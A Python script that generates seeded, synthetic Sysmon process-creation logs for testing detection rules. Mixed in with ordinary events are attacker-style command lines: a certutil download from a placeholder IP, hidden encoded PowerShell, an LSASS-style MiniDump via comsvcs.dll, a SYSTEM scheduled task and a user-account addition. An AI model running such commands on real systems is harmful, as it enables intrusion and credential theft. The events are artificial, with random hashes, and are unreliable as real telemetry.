"""Writes process creation events as Sysmon has them, flat NDJSON: ordinary ones and some that detection rules are about. Seeded: the same events every time.

usage: generate.py COUNT > FILE
"""

import json
import random
import sys

ORDINARY = [
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s {word}", "C:\\Windows\\System32\\services.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id={number} --time-ticks-at-unix-epoch=-{number}{number}", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0x4", "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir C:\\Users\\{user}\\Documents\\{word}", "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", "C:\\Windows\\System32\\svchost.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Downloads\\{word} {number}.docx\" /o \"\"", "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -File C:\\Scripts\\{word}.ps1 -Count {number}", "C:\\Windows\\System32\\taskeng.exe"),
    ("C:\\Python312\\python.exe", "python.exe C:\\Tools\\{word}\\{word}.py --input {number}.csv", "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:{word}.AppX{number}.mca", "C:\\Windows\\System32\\svchost.exe"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe -C C:\\src\\{word} fetch --prune origin", "C:\\Program Files\\Microsoft VS Code\\Code.exe"),
]
NOTABLE = [
    ("C:\\Windows\\System32\\whoami.exe", "whoami /priv", "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.{byte}/{word}.exe C:\\Users\\Public\\{word}.exe", "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    ("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {number} C:\\Windows\\Temp\\{word}.dmp full", "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\schtasks.exe", "schtasks /create /sc minute /mo 5 /tn {word} /tr C:\\Users\\Public\\{word}.bat /ru SYSTEM", "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\net.exe", "net user {word} P4ss{number} /add", "C:\\Windows\\System32\\cmd.exe"),
]
WORDS = "alpha bravo charlie delta echo foxtrot golf hotel india juliett kilo lima mike november oscar papa quebec romeo sierra tango".split()


def main():
    random.seed(20261121)
    for number in range(int(sys.argv[1])):
        image, command, parent = random.choice(NOTABLE if random.random() < 0.02 else ORDINARY)
        user = random.choice(["ines", "omar", "lena", "admin"])
        fill = {"word": random.choice(WORDS), "number": random.randrange(1000, 99999), "user": user, "byte": random.randrange(1, 255)}
        name = image.rsplit("\\", 1)[1]
        hashes = f"MD5={random.getrandbits(128):032X},SHA256={random.getrandbits(256):064X},IMPHASH={random.getrandbits(128):032X}"
        event = {
            "UtcTime": f"2026-03-02 {number // 3600 % 24:02}:{number // 60 % 60:02}:{number % 60:02}.000",
            "Computer": f"pc{random.randrange(500)}.contoso.example", "ProcessGuid": f"{{{random.getrandbits(128):032x}}}",
            "ProcessId": random.randrange(100, 65000), "Image": image, "FileVersion": "10.0.19041.1", "Description": name.split(".")[0],
            "Product": "Microsoft Windows Operating System", "Company": "Microsoft Corporation", "OriginalFileName": name,
            "CommandLine": command.format(**fill), "CurrentDirectory": f"C:\\Users\\{user}\\", "User": f"CONTOSO\\{user}", "LogonId": hex(random.getrandbits(24)),
            "TerminalSessionId": 1, "IntegrityLevel": random.choice(["Medium", "High", "System"]), "Hashes": hashes,
            "ParentProcessGuid": f"{{{random.getrandbits(128):032x}}}", "ParentProcessId": random.randrange(100, 65000), "ParentImage": parent,
            "ParentCommandLine": parent, "ParentUser": f"CONTOSO\\{user}",
        }
        print(json.dumps(event))


main()
